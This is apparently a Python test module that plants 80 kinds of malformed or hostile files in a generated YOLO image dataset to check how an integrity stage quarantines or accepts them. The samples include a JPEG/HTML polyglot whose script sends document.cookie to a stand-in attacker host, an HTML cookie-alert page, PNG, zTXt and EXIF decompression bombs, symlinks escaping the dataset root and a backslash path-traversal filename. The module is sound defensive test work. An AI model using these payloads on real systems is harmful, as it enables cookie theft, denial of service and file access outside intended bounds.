"""A corpus of bad inputs, mixed into a real (generated) YOLO dataset, with what each one should get.

``inject_bad_inputs(root)`` adds 80 kinds of hostile, broken or merely odd files to a
dataset made by :func:`secure_data_testkit.datasets.make_yolo_dataset` and returns one
:class:`BadInput` per kind: the files it created or changed (as manifest paths) and the
outcome the integrity stage must give each of them with its default policies:

* ``quarantined`` with the listed reason codes (all of them must be on the record);
* ``accepted-with-warning``: accepted, the listed codes on the record as warnings;
* ``accepted``: nothing wrong as far as integrity is concerned (odd, but valid). Where a
  later stage is what neutralises the oddity (e.g. a polyglot's appended ZIP is dropped
  because anonymization re-encodes every image from pixels), ``mitigated_by`` says which.

The untouched generated samples are never modified (new kinds get new ``bad_*`` stems
with freshly drawn content), so everything not named by a BadInput must stay accepted
without a reason. Used by ``tests/reliability/`` and documented in ``docs/reliability.md``.
"""

from __future__ import annotations

import io
import os
import stat
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

QUARANTINED = "quarantined"
WARNED = "accepted-with-warning"
ACCEPTED = "accepted"
OUTCOMES = (QUARANTINED, WARNED, ACCEPTED)


@dataclass(frozen=True)
class Expectation:
    """What one file must get: its manifest path, outcome and the reason codes its record must carry."""

    path: str
    outcome: str
    codes: tuple[str, ...] = ()

    def __post_init__(self) -> None:
        if self.outcome not in OUTCOMES:
            raise ValueError(f"outcome must be one of {OUTCOMES}, not {self.outcome!r}")
        if self.outcome != ACCEPTED and not self.codes:
            raise ValueError(f"{self.path}: a {self.outcome} expectation needs at least one reason code")


@dataclass(frozen=True)
class BadInput:
    """One kind of bad input as injected: the files it created or changed and what each must get.

    ``relpaths`` are manifest paths (a name that is not valid UTF-8 appears under the
    integrity stage's escaped stand-in). ``outcome`` / ``codes`` are those of the primary
    file (``relpaths[0]``); ``expectations`` has one entry per path (partners included:
    the label of a rejected image is quarantined with ``sample_image_rejected``).
    """

    kind: str
    description: str
    expectations: tuple[Expectation, ...]
    mitigated_by: str = ""  # the later stage that neutralises an accepted oddity
    note: str = ""

    @property
    def relpaths(self) -> tuple[str, ...]:
        return tuple(e.path for e in self.expectations)

    @property
    def outcome(self) -> str:
        return self.expectations[0].outcome

    @property
    def codes(self) -> tuple[str, ...]:
        return self.expectations[0].codes


def quarantined(path: str, *codes: str) -> Expectation:
    return Expectation(path, QUARANTINED, tuple(codes))


def warned(path: str, *codes: str) -> Expectation:
    return Expectation(path, WARNED, tuple(codes))


def accepted(path: str) -> Expectation:
    return Expectation(path, ACCEPTED)


# --------------------------------------------------------------------------- byte builders


def png_with_header(width: int, height: int) -> bytes:
    """A small, well-formed PNG whose IHDR claims ``width`` x ``height`` (a bomb when large)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + chunk(b"IEND", b""))


def jpeg_with_dimensions(jpeg: bytes, width: int, height: int) -> bytes:
    """The JPEG with its SOF header rewritten to claim ``width`` x ``height`` (a bomb when large)."""
    i = 2
    while i + 4 <= len(jpeg):
        if jpeg[i] != 0xFF:
            raise ValueError("not a baseline JPEG marker stream")
        marker = jpeg[i + 1]
        length = struct.unpack(">H", jpeg[i + 2:i + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):  # SOF0/1/2: length, precision, height, width
            return jpeg[:i + 5] + struct.pack(">HH", height, width) + jpeg[i + 9:]
        i += 2 + length
    raise ValueError("no SOF segment found")


def insert_jpeg_segments(jpeg: bytes, segments: Iterable[tuple[int, bytes]]) -> bytes:
    """Insert (marker, payload) segments right after SOI. Payloads must be < 65534 bytes."""
    out = bytearray(jpeg[:2])
    for marker, payload in segments:
        out += struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload
    out += jpeg[2:]
    return bytes(out)


def exif_many_entries(n_entries: int, claimed_count: int = 0x3FFFFFFF) -> bytes:
    """An Exif APP1 payload whose IFD0 has ``n_entries`` entries each claiming ``claimed_count`` LONGs
    at an offset past the end: an EXIF parser that trusts counts would allocate 4 GiB per entry."""
    tiff = bytearray(b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", n_entries))
    for k in range(n_entries):
        tiff += struct.pack("<HHII", 0xC000 + (k % 0x3000), 4, claimed_count, 0x7FFFFFF0)
    tiff += struct.pack("<I", 0)
    return b"Exif\x00\x00" + bytes(tiff)


# --------------------------------------------------------------------------- the injector


@dataclass
class _Injector:
    root: Path
    outside: Path
    size: tuple[int, int]
    rng: object
    results: list[BadInput] = field(default_factory=list)
    pending_label: str | None = None  # label of the image drawn last, for bad_image / odd_image

    # --- content -----------------------------------------------------------------------------
    def fresh(self, *, max_objects: int = 3):
        """A freshly drawn image (BGR array) and its YOLO label text (also kept as ``pending_label``)."""
        from secure_data_testkit.datasets import draw_sample

        w, h = self.size
        img, boxes = draw_sample(self.rng, w, h, max_objects)
        self.pending_label = "".join(b.yolo_line(w, h) + "\n" for b in boxes)
        return img, self.pending_label

    def take_label(self) -> str:
        """The label of the image drawn last (so odd images keep boxes that match them), else a new one."""
        label, self.pending_label = self.pending_label, None
        return label if label is not None else self.fresh()[1]

    def encode(self, img, fmt: str = "JPEG", mode: str | None = None, **params) -> bytes:
        from PIL import Image

        pil = Image.fromarray(img[:, :, ::-1].copy())
        if mode is not None:
            pil = pil.convert(mode)
        out = io.BytesIO()
        pil.save(out, format=fmt, **params)
        return out.getvalue()

    def jpeg(self, **params) -> tuple[bytes, str]:
        img, label = self.fresh()
        return self.encode(img, "JPEG", quality=90, **params), label

    # --- files -------------------------------------------------------------------------------
    def write(self, rel: str | bytes, data: bytes) -> None:
        path = os.path.join(os.fsencode(self.root), os.fsencode(rel))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as fh:
            fh.write(data)

    def pair(self, stem: str, image: bytes, label: str | bytes | None, *, split: str = "train",
             suffix: str = ".jpg") -> tuple[str, str]:
        """Write images/<split>/<stem><suffix> and (unless None) labels/<split>/<stem>.txt."""
        self.pending_label = None  # used up: the next bad/odd image draws or takes its own
        img_rel = f"images/{split}/{stem}{suffix}"
        lbl_rel = f"labels/{split}/{stem}.txt"
        self.write(img_rel, image)
        if label is not None:
            self.write(lbl_rel, label.encode("utf-8") if isinstance(label, str) else label)
        return img_rel, lbl_rel

    def add(self, kind: str, description: str, *expectations: Expectation, mitigated_by: str = "",
            note: str = "") -> None:
        self.results.append(BadInput(kind, description, tuple(expectations), mitigated_by, note))

    # --- shorthands for the two common shapes ------------------------------------------------
    def bad_image(self, kind: str, description: str, data: bytes, *codes: str, suffix: str = ".jpg") -> None:
        """A bad image with a valid label: the image is quarantined, the label follows it."""
        img_rel, lbl_rel = self.pair(f"bad_{kind}", data, self.take_label(), suffix=suffix)
        self.add(kind, description, quarantined(img_rel, *codes), quarantined(lbl_rel, "sample_image_rejected"))

    def bad_label(self, kind: str, description: str, label: str | bytes, *codes: str) -> None:
        """A valid image with a bad label: the label is quarantined, the image follows it."""
        image, _ = self.jpeg()
        img_rel, lbl_rel = self.pair(f"bad_{kind}", image, label)
        self.add(kind, description, quarantined(lbl_rel, *codes), quarantined(img_rel, "sample_label_rejected"))

    def odd_image(self, kind: str, description: str, data: bytes, *warnings: str, suffix: str = ".jpg",
                  mitigated_by: str = "", note: str = "") -> None:
        """A valid but odd image with its own (matching) label: accepted (with warnings when codes are given)."""
        img_rel, lbl_rel = self.pair(f"bad_{kind}", data, self.take_label(), suffix=suffix)
        first = warned(img_rel, *warnings) if warnings else accepted(img_rel)
        self.add(kind, description, first, accepted(lbl_rel), mitigated_by=mitigated_by, note=note)


def _readable(path: bytes | str) -> bool:
    try:
        if os.path.isdir(path):
            os.listdir(path)
        else:
            with open(path, "rb") as fh:
                fh.read(1)
    except PermissionError:
        return False
    return True


# --------------------------------------------------------------------------- the kinds

KindFn = Callable[[_Injector], None]
KINDS: dict[str, KindFn] = {}


def _kind(fn: KindFn) -> KindFn:
    KINDS[fn.__name__.removeprefix("_k_")] = fn
    return fn


# ----- images: bytes that are no (safe) image ------------------------------------------------

@_kind
def _k_truncated_jpeg(j: _Injector) -> None:
    data, _ = j.jpeg()
    j.bad_image("truncated_jpeg", "JPEG cut in half (its header is perfect)", data[: len(data) // 2], "truncated")


@_kind
def _k_zero_byte_image(j: _Injector) -> None:
    j.bad_image("zero_byte_image", "zero-byte .jpg", b"", "empty_file")


@_kind
def _k_text_named_jpg(j: _Injector) -> None:
    j.bad_image("text_named_jpg", "a text file named .jpg", b"just some notes, not an image\n", "not_an_image")


@_kind
def _k_html_named_jpg(j: _Injector) -> None:
    html = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>\n"
    j.bad_image("html_named_jpg", "an HTML page with a script named .jpg", html, "not_an_image")


@_kind
def _k_png_bomb_header(j: _Injector) -> None:
    j.bad_image("png_bomb_header", "tiny PNG whose IHDR claims 100000 x 100000 pixels",
                png_with_header(100_000, 100_000), "decompression_bomb", suffix=".png")


@_kind
def _k_jpeg_bomb_header(j: _Injector) -> None:
    data, _ = j.jpeg()
    j.bad_image("jpeg_bomb_header", "real JPEG whose SOF claims 65000 x 65000 pixels",
                jpeg_with_dimensions(data, 65_000, 65_000), "decompression_bomb")


@_kind
def _k_jpeg_missing_eoi(j: _Injector) -> None:
    data, _ = j.jpeg()
    j.bad_image("jpeg_missing_eoi", "JPEG missing only its 2-byte EOI marker", data[:-2], "truncated")


@_kind
def _k_corrupt_jpeg_body(j: _Injector) -> None:
    data, _ = j.jpeg()
    body = bytearray(data)
    start = len(body) // 3
    body[start:start + 200] = bytes(200)  # zeroed entropy-coded data; markers and EOI intact
    j.odd_image("corrupt_jpeg_body", "JPEG with 200 zeroed bytes of entropy-coded data (EOI intact)", bytes(body),
                mitigated_by="poisoning",
                note="LIMITATION of integrity: zero bits are valid Huffman data, so it decodes (to garbage pixels) "
                     "and no decoder-based check can tell; the poisoning stage may notice that the boxes no "
                     "longer fit their content (box_misaligned), as it does for seed 0")


@_kind
def _k_png_ztxt_bomb(j: _Injector) -> None:
    img, _ = j.fresh()
    png = j.encode(img, "PNG")
    body = b"Comment\x00\x00" + zlib.compress(bytes(64 * 1024 * 1024), 9)  # 64 MiB of text from ~65 kB
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    ihdr_end = 8 + 8 + 13 + 4  # signature + IHDR chunk
    j.bad_image("png_ztxt_bomb", "PNG with a zTXt chunk that inflates to 64 MiB (text-chunk bomb)",
                png[:ihdr_end] + chunk + png[ihdr_end:], "decode_error", suffix=".png")


@_kind
def _k_apng_many_frames(j: _Injector) -> None:
    from PIL import Image

    img, _ = j.fresh()
    first = Image.fromarray(img[:, :, ::-1].copy())
    frames = [first.point(lambda v, k=k: (v + 7 * k) % 256) for k in range(1, 30)]
    out = io.BytesIO()
    first.save(out, format="PNG", save_all=True, append_images=frames, duration=40)
    j.odd_image("apng_many_frames", "animated PNG with 30 frames (labels can describe only one)",
                out.getvalue(), suffix=".png", mitigated_by="anonymize",
                note="only the first frame is decoded and checked; anonymization writes that frame only")


@_kind
def _k_extreme_aspect(j: _Injector) -> None:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (20_000, 8), (90, 120, 150)).save(out, format="PNG")
    j.bad_image("extreme_aspect", "a 20000 x 8 image (wider than max_width)", out.getvalue(),
                "gx_width_out_of_bounds", suffix=".png")


@_kind
def _k_appledouble_named_jpg(j: _Injector) -> None:
    # macOS resource-fork sidecar "._name.jpg": binary, not an image, no label.
    rel = "images/train/._train_00000.jpg"
    j.write(rel, b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(64))
    j.add("appledouble_named_jpg", "macOS AppleDouble sidecar ._x.jpg next to a real image",
          quarantined(rel, "not_an_image"))


# ----- images: filesystem objects that are no regular file ---------------------------------

@_kind
def _k_symlink_escaping_root(j: _Injector) -> None:
    secret = j.outside / "secret.jpg"
    secret.write_bytes(b"TOP SECRET: outside the dataset root\n")
    _, label = j.fresh()
    img_rel, lbl_rel = j.pair("bad_symlink_escaping_root", b"", label)
    os.unlink(j.root / img_rel)
    os.symlink(secret, j.root / img_rel)
    j.add("symlink_escaping_root", "image that is a symlink to a file outside the root",
          quarantined(img_rel, "symlink"), quarantined(lbl_rel, "sample_image_rejected"))


@_kind
def _k_symlink_dir_escaping_root(j: _Injector) -> None:
    rel = "images/bad_symlink_dir"
    os.symlink(j.outside, j.root / rel)
    j.add("symlink_dir_escaping_root", "a directory symlink out of the root (never walked into)",
          quarantined(rel, "symlink"))


@_kind
def _k_symlink_inside_root(j: _Injector) -> None:
    _, label = j.fresh()
    img_rel, lbl_rel = j.pair("bad_symlink_inside_root", b"", label)
    os.unlink(j.root / img_rel)
    os.symlink("train_00000.jpg", j.root / img_rel)  # relative, to a good image in the same folder
    j.add("symlink_inside_root", "image that is a relative symlink to another image of the dataset",
          quarantined(img_rel, "symlink"), quarantined(lbl_rel, "sample_image_rejected"))


@_kind
def _k_symlink_label(j: _Injector) -> None:
    image, _ = j.jpeg()
    img_rel, lbl_rel = j.pair("bad_symlink_label", image, None)
    os.symlink("/etc/hostname", j.root / lbl_rel)
    j.add("symlink_label", "label that is a symlink to /etc/hostname",
          quarantined(lbl_rel, "symlink"), quarantined(img_rel, "sample_label_rejected"))


@_kind
def _k_fifo_named_jpg(j: _Injector) -> None:
    _, label = j.fresh()
    img_rel, lbl_rel = j.pair("bad_fifo_named_jpg", b"", label)
    os.unlink(j.root / img_rel)
    os.mkfifo(j.root / img_rel)  # opening it for reading would block forever without O_NONBLOCK
    j.add("fifo_named_jpg", "a FIFO named .jpg", quarantined(img_rel, "not_regular_file"),
          quarantined(lbl_rel, "sample_image_rejected"))


@_kind
def _k_directory_named_like_image(j: _Injector) -> None:
    inner = "images/train/bad_directory.jpg/notes.txt"
    j.write(inner, b"a directory named like an image, with a file in it\n")
    _, label = j.fresh()
    lbl_rel = "labels/train/bad_directory.txt"
    j.write(lbl_rel, label.encode())
    j.add("directory_named_like_image", "directory images/train/x.jpg/ (with a file inside) and x's label",
          quarantined(inner, "unexpected_file"), quarantined(lbl_rel, "label_without_image"))


@_kind
def _k_permission_denied(j: _Injector) -> None:
    image, label = j.jpeg()
    img_rel, lbl_rel = j.pair("bad_permission_denied", image, label)
    path = j.root / img_rel
    os.chmod(path, 0)
    if _readable(path):
        j.add("permission_denied", "image with mode 000", accepted(img_rel), accepted(lbl_rel),
              note="this process can read mode-000 files (root with CAP_DAC_OVERRIDE): nothing to detect; "
                   "tests/reliability/test_permissions.py runs the case without that capability")
    else:
        j.add("permission_denied", "image with mode 000", quarantined(img_rel, "unreadable"),
              quarantined(lbl_rel, "sample_image_rejected"))


@_kind
def _k_unreadable_directory(j: _Injector) -> None:
    image, label = j.jpeg()
    img_rel = "images/train/bad_locked/inner.jpg"
    lbl_rel = "labels/train/bad_locked/inner.txt"
    j.write(img_rel, image)
    j.write(lbl_rel, label.encode())
    folder = j.root / "images/train/bad_locked"
    os.chmod(folder, 0)
    if _readable(folder):
        j.add("unreadable_directory", "image folder with mode 000", accepted(img_rel), accepted(lbl_rel),
              note="this process can list mode-000 folders (root with CAP_DAC_READ_SEARCH); "
                   "tests/reliability/test_permissions.py runs the case without that capability")
    else:
        j.add("unreadable_directory", "image folder with mode 000",
              quarantined("images/train/bad_locked", "unreadable"), quarantined(lbl_rel, "label_without_image"))


# ----- images: formats and encodings ---------------------------------------------------------

@_kind
def _k_png_named_jpg(j: _Injector) -> None:
    img, _ = j.fresh()
    j.odd_image("png_named_jpg", "a valid PNG named .jpg", j.encode(img, "PNG"), "extension_mismatch")


@_kind
def _k_gif_image(j: _Injector) -> None:
    img, label = j.fresh()
    img_rel, lbl_rel = j.pair("bad_gif_image", j.encode(img, "GIF"), label, suffix=".gif")
    j.add("gif_image", "a GIF (not a YOLO image suffix here) with a label",
          quarantined(img_rel, "unexpected_file"), quarantined(lbl_rel, "label_without_image"))


@_kind
def _k_bmp_image(j: _Injector) -> None:
    img, _ = j.fresh()
    j.bad_image("bmp_image", "a BMP (format not in allowed_formats)", j.encode(img, "BMP"),
                "gx_format_not_allowed", suffix=".bmp")


@_kind
def _k_tiff_image(j: _Injector) -> None:
    img, _ = j.fresh()
    j.bad_image("tiff_image", "a TIFF (format not in allowed_formats)", j.encode(img, "TIFF"),
                "gx_format_not_allowed", suffix=".tif")


@_kind
def _k_webp_image(j: _Injector) -> None:
    img, _ = j.fresh()
    j.bad_image("webp_image", "a WebP (format not in allowed_formats)", j.encode(img, "WEBP", quality=90),
                "gx_format_not_allowed", suffix=".webp")


@_kind
def _k_png_16bit(j: _Injector) -> None:
    import numpy as np
    from PIL import Image

    img, _ = j.fresh()
    gray16 = (img.mean(axis=2).astype(np.uint16) * 257)
    out = io.BytesIO()
    Image.fromarray(gray16).save(out, format="PNG")  # mode I;16 -> 16-bit grayscale PNG
    j.bad_image("png_16bit", "16-bit grayscale PNG (bit depth not in allowed_bit_depths)", out.getvalue(),
                "gx_bit_depth_not_allowed", suffix=".png")


@_kind
def _k_one_by_one(j: _Injector) -> None:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (1, 1), (200, 150, 120)).save(out, format="PNG")
    img_rel, lbl_rel = j.pair("bad_one_by_one", out.getvalue(), "0 0.5 0.5 1 1\n", suffix=".png")
    j.add("one_by_one", "a 1x1 image with one full-frame box",
          quarantined(img_rel, "gx_width_out_of_bounds", "gx_height_out_of_bounds"),
          quarantined(lbl_rel, "sample_image_rejected"))


@_kind
def _k_cmyk_jpeg(j: _Injector) -> None:
    img, _ = j.fresh()
    j.odd_image("cmyk_jpeg", "CMYK JPEG (4 channels)", j.encode(img, "JPEG", mode="CMYK", quality=90),
                mitigated_by="anonymize", note="re-encoded as 3-channel RGB by anonymization")


@_kind
def _k_grayscale_jpeg(j: _Injector) -> None:
    img, _ = j.fresh()
    j.odd_image("grayscale_jpeg", "8-bit grayscale JPEG", j.encode(img, "JPEG", mode="L", quality=90))


@_kind
def _k_progressive_jpeg(j: _Injector) -> None:
    img, _ = j.fresh()
    j.odd_image("progressive_jpeg", "progressive JPEG",
                j.encode(img, "JPEG", quality=90, progressive=True, optimize=True))


@_kind
def _k_exif_orientation(j: _Injector) -> None:
    from PIL import Image

    img, _ = j.fresh()
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90 CW when displayed: boxes may not match what a viewer shows
    j.odd_image("exif_orientation", "JPEG with EXIF orientation 6",
                j.encode(img, "JPEG", quality=90, exif=exif.tobytes()), "exif_orientation")


@_kind
def _k_exif_gps(j: _Injector) -> None:
    from PIL import Image

    img, _ = j.fresh()
    exif = Image.Exif()
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)})
    j.odd_image("exif_gps", "JPEG whose EXIF carries a GPS position",
                j.encode(img, "JPEG", quality=90, exif=exif.tobytes()), "exif_gps",
                mitigated_by="anonymize", note="anonymization writes pixels only: no EXIF survives")


@_kind
def _k_exif_bomb_segments(j: _Injector) -> None:
    from PIL import Image

    data, _ = j.jpeg()
    exif = Image.Exif()
    exif[0x010F] = "x" * 60_000  # a 60 kB Make string
    junk = j.rng.integers(0, 256, size=65_000, dtype="uint8").tobytes()
    segments = [(0xE1, exif.tobytes())]  # Pillow's Exif.tobytes() starts with the "Exif\0\0" header
    segments += [(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + junk[:65_000]) for _ in range(40)]
    segments += [(0xE2, b"ICC_PROFILE\x00" + bytes([k + 1, 40]) + junk[:65_000]) for k in range(40)]
    j.odd_image("exif_bomb_segments", "JPEG with ~5 MB of APP1/APP2 metadata (80 max-size segments)",
                insert_jpeg_segments(data, segments), mitigated_by="anonymize",
                note="metadata is never copied: anonymization re-encodes from pixels")


@_kind
def _k_exif_many_ifd_entries(j: _Injector) -> None:
    data, _ = j.jpeg()
    j.odd_image("exif_many_ifd_entries", "EXIF IFD with 5000 entries each claiming 4 GiB of data past the end",
                insert_jpeg_segments(data, [(0xE1, exif_many_entries(5000))]), mitigated_by="anonymize",
                note="metadata is never copied: anonymization re-encodes from pixels")


@_kind
def _k_polyglot_jpeg_zip(j: _Injector) -> None:
    data, _ = j.jpeg()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("payload.sh", "#!/bin/sh\necho pwned\n")
    j.odd_image("polyglot_jpeg_zip", "a valid JPEG that is also a ZIP archive (ZIP appended after EOI)",
                data + buf.getvalue(), mitigated_by="anonymize",
                note="integrity does not look past EOI; anonymization re-encodes, so the ZIP is dropped")


@_kind
def _k_polyglot_jpeg_html(j: _Injector) -> None:
    data, _ = j.jpeg()
    j.odd_image("polyglot_jpeg_html", "a valid JPEG with an HTML page and script appended after EOI",
                data + b"<html><script>fetch('https://attacker.invalid/'+document.cookie)</script></html>",
                mitigated_by="anonymize",
                note="integrity does not look past EOI; anonymization re-encodes, so the HTML is dropped")


@_kind
def _k_exact_duplicate_images(j: _Injector) -> None:
    data, label = j.jpeg()
    a = j.pair("bad_exact_duplicate_a", data, label)
    b = j.pair("bad_exact_duplicate_b", data, label)
    j.add("exact_duplicate_images", "the same image bytes under two names",
          quarantined(a[0], "gx_duplicate_hash"), quarantined(b[0], "gx_duplicate_hash"),
          quarantined(a[1], "sample_image_rejected"), quarantined(b[1], "sample_image_rejected"))


# ----- names ---------------------------------------------------------------------------------

@_kind
def _k_ambiguous_sample(j: _Injector) -> None:
    image, label = j.jpeg()
    img, _ = j.fresh()
    jpg, lbl = j.pair("bad_ambiguous_sample", image, label)
    png, _ = j.pair("bad_ambiguous_sample", j.encode(img, "PNG"), None, suffix=".png")
    j.add("ambiguous_sample", "x.jpg and x.png share one label x.txt",
          quarantined(jpg, "ambiguous_sample"), quarantined(png, "ambiguous_sample"),
          quarantined(lbl, "ambiguous_sample"))


@_kind
def _k_uppercase_image_suffix(j: _Injector) -> None:
    img_rel, lbl_rel = j.pair("bad_uppercase_image_suffix", *j.jpeg(), suffix=".JPG")
    j.add("uppercase_image_suffix", "image named .JPG (label .txt)", accepted(img_rel), accepted(lbl_rel),
          note="Ultralytics pairs x.JPG with x.txt too (an upper-case .TXT label does not pair there: "
               "see tests/reliability/test_found_defects.py)")


@_kind
def _k_unicode_lookalike(j: _Injector) -> None:
    image, label = j.jpeg()
    img_rel, _ = j.pair("bad_lookalike_\u0430", image, None)  # Cyrillic small a
    lbl_rel = "labels/train/bad_lookalike_a.txt"  # Latin small a: NOT the same sample
    j.write(lbl_rel, label.encode())
    j.add("unicode_lookalike", "image stem with Cyrillic 'а', label stem with Latin 'a'",
          warned(img_rel, "image_without_label"), quarantined(lbl_rel, "label_without_image"))


@_kind
def _k_nfc_nfd_names(j: _Injector) -> None:
    image, label = j.jpeg()
    nfc = unicodedata.normalize("NFC", "bad_caf\u00e9")
    nfd = unicodedata.normalize("NFD", nfc)
    img_rel, _ = j.pair(nfc, image, None)
    lbl_rel = f"labels/train/{nfd}.txt"
    j.write(lbl_rel, label.encode())
    j.add("nfc_nfd_names", "image stem in NFC ('é' one code point), label stem in NFD (e + combining accent)",
          warned(img_rel, "image_without_label"), quarantined(lbl_rel, "label_without_image"),
          note="paths are compared as bytes: a macOS (NFD) copy of an NFC dataset unpairs every accented name")


@_kind
def _k_case_colliding_names(j: _Injector) -> None:
    lower = j.pair("bad_case", *j.jpeg())
    upper = j.pair("BAD_CASE", *j.jpeg())
    j.add("case_colliding_names", "bad_case.jpg and BAD_CASE.jpg (with labels) in one split",
          accepted(lower[0]), accepted(lower[1]), accepted(upper[0]), accepted(upper[1]),
          note="distinct on Linux; on a case-insensitive filesystem one would overwrite the other (the "
               "hand-off decrypts with O_EXCL, so there it fails loudly instead)")


@_kind
def _k_same_stem_across_splits(j: _Injector) -> None:
    train = j.pair("bad_same_stem", *j.jpeg(), split="train")
    val = j.pair("bad_same_stem", *j.jpeg(), split="val")
    j.add("same_stem_across_splits", "the same file name in train and val (different content)",
          accepted(train[0]), accepted(train[1]), accepted(val[0]), accepted(val[1]))


@_kind
def _k_space_in_name(j: _Injector) -> None:
    img_rel, lbl_rel = j.pair("bad space in name", *j.jpeg())
    j.add("space_in_name", "spaces in the file names", accepted(img_rel), accepted(lbl_rel))


@_kind
def _k_newline_in_name(j: _Injector) -> None:
    img_rel, lbl_rel = j.pair("bad\nnewline", *j.jpeg())
    j.add("newline_in_name", "a newline in the file names", accepted(img_rel), accepted(lbl_rel),
          note="valid UTF-8 and a normalised path, so accepted; every manifest and reason file is JSON, "
               "where the newline is escaped")


@_kind
def _k_non_utf8_name(j: _Injector) -> None:
    from secure_data.integrity.files import escaped_name

    image, _ = j.jpeg()
    rel = b"images/train/bad_latin1_\xe9t\xe9.jpg"
    j.write(rel, image)
    path = escaped_name(os.fsdecode(rel))
    j.add("non_utf8_name", "a file name that is not valid UTF-8 (Latin-1 bytes)",
          quarantined(path, "unsafe_path"))


@_kind
def _k_backslash_in_name(j: _Injector) -> None:
    image, _ = j.jpeg()
    rel = "images/train/bad\\..\\..\\escape.jpg"
    j.write(rel, image)
    j.add("backslash_in_name", r"a Windows-style 'bad\..\..\escape.jpg' name", quarantined(rel, "unsafe_path"))


@_kind
def _k_hidden_dotfile_sample(j: _Injector) -> None:
    img_rel, lbl_rel = j.pair(".bad_hidden", *j.jpeg())
    j.add("hidden_dotfile_sample", "a hidden sample (.x.jpg + .x.txt)", accepted(img_rel), accepted(lbl_rel),
          note="a valid sample whatever its name; hidden files are listed, never skipped")


@_kind
def _k_ds_store(j: _Injector) -> None:
    rel = "images/train/.DS_Store"
    j.write(rel, b"\x00\x00\x00\x01Bud1" + bytes(100))
    j.add("ds_store", "macOS .DS_Store in an image folder", quarantined(rel, "unexpected_file"))


@_kind
def _k_files_outside_layout(j: _Injector) -> None:
    image, _ = j.jpeg()
    j.write("notes.txt", b"not part of the dataset\n")
    j.write("images/stray.jpg", image)  # no split folder
    j.write("labels/train/bad_meta.json", b'{"not": "a label"}\n')
    j.add("files_outside_layout", "a file at the root, an image outside any split, a .json among labels",
          quarantined("notes.txt", "unexpected_file"), quarantined("images/stray.jpg", "unexpected_file"),
          quarantined("labels/train/bad_meta.json", "unexpected_file"))


# ----- labels ----------------------------------------------------------------------------------

_LABELS: Sequence[tuple[str, str, str, str]] = (
    ("label_class_out_of_range", "class id 5 with two classes", "5 0.5 0.5 0.1 0.1\n", "label_class_out_of_range"),
    ("label_negative_class", "class id -1", "-1 0.5 0.5 0.1 0.1\n", "label_class_out_of_range"),
    ("label_nan", "NaN coordinate", "0 nan 0.5 0.1 0.1\n", "label_non_finite"),
    ("label_inf", "infinite coordinate", "0 0.5 0.5 inf 0.1\n", "label_non_finite"),
    ("label_4_fields", "4 fields", "0 0.5 0.5 0.1\n", "label_missing_fields"),
    ("label_6_fields", "6 fields (segment/keypoint-style)", "0 0.5 0.5 0.1 0.1 0.3\n", "label_extra_fields"),
    ("label_coord_above_one", "centre x = 1.5", "0 1.5 0.5 0.1 0.1\n", "label_coord_out_of_range"),
    ("label_pixel_coords", "pixel instead of normalized coordinates", "0 80 80 20 20\n",
     "label_coord_out_of_range"),
    ("label_box_past_edge", "box extends past the right edge", "1 0.95 0.5 0.2 0.1\n", "label_box_outside_image"),
    ("label_zero_width", "zero width", "0 0.5 0.5 0.0 0.1\n", "label_nonpositive_size"),
    # a negative width is caught as "outside [0, 1]" first: that check runs before the size check
    ("label_negative_width", "negative width", "0 0.5 0.5 -0.1 0.1\n", "label_coord_out_of_range"),
    ("label_duplicate_box", "the same box twice", "0 0.5 0.5 0.2 0.2\n0 0.5 0.5 0.2 0.2\n", "label_duplicate_box"),
    ("label_class_name", "class name instead of id", "face 0.5 0.5 0.2 0.2\n", "label_parse_error"),
    ("label_float_class", "class id written as 0.0", "0.0 0.5 0.5 0.2 0.2\n", "label_parse_error"),
    ("label_bom", "UTF-8 BOM before the first line (Windows editors)", "\ufeff0 0.5 0.5 0.2 0.2\r\n",
     "label_parse_error"),
    ("label_nul_byte", "a NUL byte inside a line", "0 0.5 0.5 0.2 0.2\x00\n", "label_parse_error"),
    ("label_huge_class_digits", "a 5000-digit class id", "1" * 5000 + " 0.5 0.5 0.2 0.2\n", "label_parse_error"),
)

for _name, _desc, _text, _code in _LABELS:
    def _make(j: _Injector, name: str = _name, desc: str = _desc, text: str = _text, code: str = _code) -> None:
        j.bad_label(name, desc, text, code)

    KINDS[_name] = _make


@_kind
def _k_label_binary_garbage(j: _Injector) -> None:
    garbage = bytes([0xFF, 0xFE, 0x00, 0x80]) + j.rng.integers(0, 256, size=2000, dtype="uint8").tobytes()
    j.bad_label("label_binary_garbage", "binary garbage, not UTF-8", garbage, "label_not_utf8")


@_kind
def _k_label_latin1(j: _Injector) -> None:
    j.bad_label("label_latin1", "Latin-1 encoded comment byte", b"0 0.5 0.5 0.2 0.2 # caf\xe9\n", "label_not_utf8")


@_kind
def _k_label_huge_line(j: _Injector) -> None:
    line = ("0 0.5 0.5 0.1 0.1 " * 60_000)[: 1024 * 1024].rstrip() + "\n"  # one 1 MiB line
    j.bad_label("label_huge_line", "a single 1 MiB line", line, "label_extra_fields")


@_kind
def _k_label_too_large(j: _Injector) -> None:
    lines = "".join(f"0 0.5 0.5 0.{k % 9 + 1} 0.1\n" for k in range(300_000))  # ~5.4 MB > max_label_bytes
